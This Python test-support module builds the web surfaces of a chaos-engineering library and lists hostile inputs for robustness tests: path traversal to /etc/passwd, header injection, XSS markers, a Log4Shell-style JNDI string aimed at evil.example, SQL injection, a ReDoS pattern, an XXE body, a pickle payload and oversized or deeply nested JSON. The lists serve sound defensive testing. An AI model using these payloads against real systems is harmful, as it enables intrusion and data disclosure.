"""What hostile requests are made of, and the apps of ours that have to stand them: shared by the tests of the surfaces."""

from __future__ import annotations

import asyncio
import json
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Final

from somaresil import ChaosCeilings, ChaosPlan, ManualClock, Resilience
from somaresil.canary.fleet import EvidenceInbox, FleetJudge
from somaresil.canary.telling import EvidenceTeller
from somaresil.chaos.plan import FaultWindow
from somaresil.control import BearerToken, chaos_control
from somaresil.events import DefectFound
from somaresil.integrations.prometheus import metrics_app
from somaresil.verdict import evidence_app, verdict_app
from tests.unit.slo.kit import availability, process

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator

ALICE: Final = "alice-0123456789-abcdefghijklmnop"
BOB: Final = "bob-0123456789-abcdefghijklmnopqr"
SECRET: Final = "page-secret-0123456789-abcdefghijklmnop"
SECRETS: Final = (ALICE.encode(), BOB.encode(), SECRET.encode())
MARK: Final = "<script>alert('x')</script>"
"""Where it stands in a page as it is, the page obeys it."""
KNOWN: Final = (b"authorization", f"Bearer {ALICE}".encode())
HOST: Final = (b"host", b"service")
JSON: Final = (b"content-type", b"application/json")
WINDOW: Final = {"target": "llm.*", "kind": "error", "duration": 30}
SMALL: Final = 32_768
"""Bytes that an answer to something hostile may have."""
PIECE: Final = 65_536


@dataclass
class Answer:
    """What came back, and what was read for it."""

    status: int
    headers: tuple[tuple[bytes, bytes], ...]
    body: bytes
    taken: int
    """Bytes of the request's body that were taken."""

    def header(self, name: bytes) -> bytes:
        """Its value; empty: there is none."""
        return dict(self.headers).get(name, b"")


@dataclass
class Surface:
    """An app of ours, and what has to stay as it is."""

    name: str
    app: Any
    root: str
    resilience: Resilience
    state: Callable[[], Any]
    looks: tuple[str, ...]
    """Paths that are there for GET."""
    acts: tuple[str, ...] = ()
    """Paths that are there for POST, and read a body of JSON."""
    headers: tuple[tuple[bytes, bytes], ...] = (JSON,)
    """What a request that changes something needs besides a token of the caller."""
    open_to_all: bool = False
    largest: int = 65_536
    """Bytes of a body that it reads."""
    defects: list[Any] = field(default_factory=list)

    async def ask(
        self,
        path: str,
        method: str = "GET",
        *,
        headers: Iterable[tuple[bytes, bytes]] = (),
        known: bool = True,
        query: bytes = b"",
        body: Iterable[bytes] = (b"",),
        ends: str = "whole",
        below: bool = True,
        **more: Any,
    ) -> Answer:
        """Send one request. ``ends``: ``whole``, or ``cut``: whoever sent it has gone, or ``silent``: nothing more comes."""
        pieces: Iterator[bytes] = iter(body)
        taken = 0
        ahead: list[bytes | None] = [next(pieces, None)]
        over = False

        async def receive() -> dict[str, Any]:
            nonlocal taken, over
            piece = ahead[0]
            if piece is None:
                if ends == "silent" and not over:
                    await asyncio.Event().wait()
                return {"type": "http.disconnect"}
            ahead[0] = next(pieces, None)
            taken += len(piece)
            over = ahead[0] is None and ends == "whole"
            return {"type": "http.request", "body": piece, "more_body": not over}

        sent: list[Any] = []

        async def send(message: Any) -> None:
            sent.append(message)

        scope = {
            "type": "http",
            "asgi": {"version": "3.0"},
            "http_version": "1.1",
            "method": method,
            "scheme": "http",
            "path": f"{self.root}{path}" if below else path,
            "raw_path": path.encode("utf-8", "replace"),
            "root_path": self.root,
            "query_string": query,
            "headers": [HOST, *([KNOWN] if known else ()), *headers],
            "client": ("198.51.100.7", 1),
            "server": ("127.0.0.1", 2),
            **more,
        }
        await self.app(scope, receive, send)
        assert [each["type"] for each in sent[:1]] == ["http.response.start"], sent
        assert {each["type"] for each in sent[1:]} == {"http.response.body"}
        assert [each.get("more_body", False) for each in sent[1:]] == [False]
        return Answer(sent[0]["status"], tuple(sent[0]["headers"]), b"".join(each.get("body", b"") for each in sent[1:]), taken)


def control() -> Surface:
    """The control app, with an experiment that runs."""
    resilience = _process()
    app = chaos_control(resilience, auth=BearerToken({"alice": ALICE, "bob": BOB}))
    resilience.chaos.arm_plan(ChaosPlan.from_dict({"somaresil_plan": 1, "seed": 1, "windows": [{**WINDOW, "start": 0, "duration": 300}]}))
    looks = ("/status", "/experiments", "/experiments/error-1", "/capabilities", "/openapi.json")
    return _watched(Surface("control", app, "/_soma/chaos", resilience, _of(resilience), looks, ("/check", "/experiments", "/deployments")))


def dashboard() -> Surface:
    """The dashboard, on which Alice may do things and Bob may look."""
    resilience = _process()
    plans = {"slow": ChaosPlan([FaultWindow("llm.*", "latency", 0, 30, delay=0.8, rate=0.2)])}
    both, one = BearerToken({"alice": ALICE, "bob": BOB}), BearerToken({"alice": ALICE})
    app = resilience.dashboard(auth=both, operators=one, plans=plans, secret=SECRET)
    looks = (
        "/",
        "/plain",
        "/api/picture",
        "/api/events",
        "/api/session",
        "/api/experiments",
        "/api/guards/llm.invoke",
        "/api/openapi.json",
    )
    acts = ("/api/experiments", "/api/breakers/llm.invoke/trip", "/api/engage", "/api/canaries/none/promote")
    token = (b"x-somaresil-csrf", app._tokens.give("alice").encode())
    return _watched(Surface("dashboard", app, "/_soma", resilience, _of(resilience), looks, acts, (JSON, token)))


def verdicts() -> Surface:
    """The verdict app over a judge that pods push to."""
    resilience, _ = process(availability())
    judge = FleetJudge(resilience, name="gateway", bad="up", sources=[EvidenceInbox(resilience)])
    app = verdict_app({"gateway": judge}, resilience=resilience, auth=BearerToken({"alice": ALICE, "bob": BOB}))
    looks = ("/canaries", "/canaries/gateway", "/argo/verdict", "/prom/api/v1/query", "/prom/api/v1/status/buildinfo", "/openapi.json")
    acts = ("/flagger/rollout", "/flagger/pre-rollout", "/evidence", "/evidence/gateway", "/canaries/gateway/promote")

    judge.begin("c1")

    def state() -> Any:
        return judge.current, str(getattr(judge, "paused", "")), judge.peek("c1").verdict, judge.peek("c1").reason

    return _watched(Surface("verdicts", app, "/canary", resilience, state, looks, acts))


def evidence() -> Surface:
    """What a pod tells."""
    resilience, _ = process(availability())
    teller = EvidenceTeller(resilience, bad="up", pod="gw-1")
    app = evidence_app(teller, resilience=resilience, auth=BearerToken({"alice": ALICE, "bob": BOB}))
    return _watched(Surface("evidence", app, "/evidence", resilience, lambda: len(teller.tell()["marks"]), ("", "/", "/whatever")))


def metrics() -> Surface:
    """The metrics, which whoever reaches them may read."""
    resilience = _process()
    made = Surface("metrics", metrics_app(resilience), "/metrics", resilience, _of(resilience), ("", "/", "/whatever"), open_to_all=True)
    return _watched(made)


SURFACES: Final = {"control": control, "dashboard": dashboard, "verdicts": verdicts, "evidence": evidence, "metrics": metrics}


def _process() -> Resilience:
    resilience = Resilience("tests", clock=ManualClock(), seed=7, environment="test")
    resilience.chaos.opt_in(ChaosCeilings())
    resilience.guard("llm.invoke", breaker=True)
    return resilience


def _of(resilience: Resilience) -> Callable[[], Any]:
    """What nobody may have moved: experiments, the lever, the breaker, the notes of what was done."""
    chaos, breaker = resilience.chaos, resilience.breaker("llm.invoke")
    return lambda: (
        [run.id for run in chaos.runs],
        [(run.id, run.over) for run in chaos.history],
        chaos.engaged,
        breaker.state,
        [(entry.what, entry.who) for entry in chaos.audit.entries],
    )


def _watched(surface: Surface) -> Surface:
    surface.resilience.on(surface.defects.append, DefectFound)
    return surface


# -- what is sent -------------------------------------------------------------------------------------------------------------------------

PATHS: Final = (
    "/nothing",
    "/../status",
    "/../../../../etc/passwd",
    "/%2e%2e/status",
    "/..%2fstatus",
    "/..\\status",
    "//status",
    "//evil.example/",
    "/./status",
    "/status/",
    "/status/..",
    "/status\x00",
    "/status\x00.json",
    "/status\r\nx-injected: 1",
    "/status\n",
    "/STATUS",
    "/status;a=b",
    "/\u017ftatus",
    "/status\u202e",
    "/\ud800",
    "/flagger/\ud800/rollout",
    "/flagger/no-such-hook",
    f"/{MARK}",
    f"/experiments/{MARK}",
    f"/canaries/{MARK}",
    f"/static/{MARK}",
    f"/api/guards/{MARK}",
    "/api/guards/\ud800",
    "/api/guards/\r\nx-injected: 1",
    "/api/objectives/\ud800",
    "/static/../../../etc/passwd",
    "/static/..%2f..%2fapp.py",
    "/static//etc/passwd",
    "/static/\x00",
    "/static/index.html\x00",
    "/experiments/..",
    "/experiments/%00",
    "/canaries/..",
    "/canaries/../..",
    "/canaries/\ud800",
    "/" + "a" * 100_000,
    "/" + "a/" * 50_000,
    "/experiments/" + "a" * 201,
    "/%",
    "/%zz",
    "/%ff%fe",
    "*",
    "",
    "http://evil.example/",
    "/\U0010ffff",
)
"""Paths as servers hand them over, which nothing is found at or which the app is to answer like any other."""

METHODS: Final = (
    *("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "BREW"),
    *("get", "post", "", "G E T", "GET\r\nx-injected: 1", "POST\x00", "\ud800", "P" * 100_000, MARK),
)

QUERIES: Final = (
    b"\xff\xfe",
    b"%ff%fe",
    b"%00",
    b"a=%00&b=%0d%0ax-injected:%201",
    b"query=\xff",
    b"query=%ff",
    b"query=" + b"(" * 20_000,
    b"query=" + b"a" * 100_000,
    b"a=1&" * 20_000,
    b"&" * 100_000,
    b"=" * 1_000,
    b"%" * 1_000,
    b"x" * 100_000 + b"=1",
    b"canary=" + MARK.encode(),
    b"canary=%ed%a0%80",
    b"canary=" + b"a" * 100_000,
    b"checksum=" + b"a" * 100_000,
    b"checksum=" + MARK.encode(),
    b"query=" + MARK.encode(),
    b'query=somaresil_burn_rate{slo="' + MARK.encode() + b'"}',
    b'query=somaresil_burn_rate{slo="up"} or vector(1)',
    b"query=vector(" + b"9" * 5_000 + b")",
    b"query=vector(1)&time=1e999",
    b"query=vector(1)&time=nan",
    b"query=vector(1)&time=" + b"9" * 5_000,
    b"refresh=-1",
    b"refresh=" + b"9" * 5_000,
    b"refresh=%D9%A3",
    b"refresh=5&refresh=5",
    b"refresh=" + MARK.encode(),
    MARK.encode() + b"=1",
    b"own=2",
    b"after=" + b"9" * 5_000,
    b"after=-1",
    b"after=" + MARK.encode(),
    b"kind=" + MARK.encode(),
    b"about=" + b"a" * 100_000,
    b"most=0",
    b"most=" + b"9" * 9,
    b"_method=POST",
)

_DEEP: Final = 100_000
BODIES: Final = {
    "nothing": b"",
    "blank": b" \n\t ",
    "no JSON": b"{",
    "half": b'{"reason": "x',
    "list": b"[]",
    "text": b'"x"',
    "number": b"7",
    "true": b"true",
    "deep lists": b"[" * _DEEP,
    "deep objects": b'{"a":' * 12_000,
    "deep and closed": b"[" * 30_000 + b"]" * 30_000,
    "eleven deep": b"[" * 11 + b"]" * 11,
    "a name twice": b'{"reason": "a", "reason": "b"}',
    "a name twice below": b'{"a": {"b": 1, "b": 2}}',
    "NaN": b'{"reason": NaN}',
    "Infinity": b'{"duration": Infinity}',
    "-Infinity": b"[-Infinity]",
    "1e999": b'{"rate": 1e999}',
    "a huge number": b"1" * 60_000,
    "a number of 4000 digits": b'{"duration": ' + b"1" * 4_000 + b"}",
    "a long name": b'{"' + b"a" * 60_000 + b'": 1}',
    "many long names": b"{" + b",".join(b'"%04d%s": 1' % (n, b"a" * 1_200) for n in range(50)) + b"}",
    "many names": b"{" + b",".join(b'"a%d":1' % n for n in range(4_000)) + b"}",
    "many names twice": b"{" + b",".join([b'"aa":1'] * 6_000) + b"}",
    "a lone surrogate": b'{"reason": "\\ud800"}',
    "a surrogate for a name": b'{"\\ud800": 1}',
    "NUL": b'{"reason": "\\u0000"}',
    "a mark": json.dumps({MARK: MARK}).encode(),
    "line ends": json.dumps({"reason\r\nx: 1": "a\r\nx-injected: 1"}).encode(),
    "prototype": b'{"__proto__": {"a": 1}, "constructor": 1, "__class__": "x"}',
    "a byte order mark": b"\xef\xbb\xbf{}",
    "UTF-16": '{"a": 1}'.encode("utf-16"),
    "Latin-1": b'{"reason": "\xe9"}',
    "a form": b"reason=x",
    "two documents": b"{}{}",
    "YAML": b"a: &a [*a]",
    "XML": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "a pickle": b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94.",
}
"""None of them is what anything of ours wants to be told."""

VALUES: Final = (
    None,
    True,
    -1,
    0,
    10**400,
    10**4_000,
    -(10**4_000),
    1e308,
    -1e308,
    5e-324,
    "",
    " ",
    "\x00",
    "\ud800",
    "\u202e",
    "a\r\nb",
    MARK,
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}",
    "%s%s%n",
    "../../etc/passwd",
    "'; DROP TABLE runs; --",
    "*" * 1_000,
    "(a+)+$" * 100,
    "a" * 60_000,
    [],
    {},
    [None],
    [[[[[]]]]],
    {"a": {"b": {}}},
    ["a"] * 5_000,
    {str(n): n for n in range(2_000)},
)

FIELDS: Final = {
    "/check": (
        {"somaresil_plan": 1, "seed": 1, "windows": [{**WINDOW, "start": 0}]},
        ("somaresil_plan", "seed", "windows", "name", "unknown"),
    ),
    "/deployments": ({"version": 7}, ("at", "commit", "ok", "unknown")),
    "/api/experiments": ({"plan": 7}, ("unknown", "plan")),
    "/api/engage": ({"reason": 7}, ("unknown",)),
    "/flagger/rollout": ({"name": "other", "namespace": "x", "checksum": "c1"}, ("name", "namespace", "checksum", "phase", "metadata")),
    "/canaries/gateway/promote": ({"reason": 7}, ("unknown",)),
    "/evidence": (
        {"form": 1, "pod": "a", "instance": "b", "role": "", "version": "", "checksum": "", "time": 1, "age": 1, "every": 10, "marks": []},
        ("form", "pod", "instance", "role", "version", "checksum", "time", "age", "every", "marks", "labels"),
    ),
}
"""Documents that are wrong already, or change nothing, and their fields."""
WINDOW_FIELDS: Final = (
    *("start", "duration", "target", "kind", "rate", "delay", "seed", "error", "options", "blast_radius", "candidates", "name"),
    *("max_injections", "allow_overlap", "steady_state", "abort", "status", "where", "unknown"),
)
